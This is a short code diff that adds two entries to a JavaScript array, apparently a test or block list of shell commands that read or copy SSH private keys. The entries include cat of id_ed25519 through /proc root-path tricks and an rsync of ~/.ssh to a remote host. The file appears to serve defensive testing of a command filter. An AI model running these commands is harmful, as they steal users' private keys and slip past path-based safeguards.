@@ -130,6 +130,8 @@ const TO_THE_KEYS = [
     'rsync -a ~/.ssh host:',
     'tar cf - /home',
     'cat /proc/self/cwd/.ssh/id_ed25519',
+    'cat /proc/self/r*/root/.ssh/id_ed25519',
+    'cat /proc/1/task/1/root/proc/self/root/root/.ssh/id_ed25519',
     '. ~/.ssh/id_ed25519',
     'test -e x && cat ~/.ssh/id_ed25519',
     'true | cat ~/.ssh/id_ed25519 &',
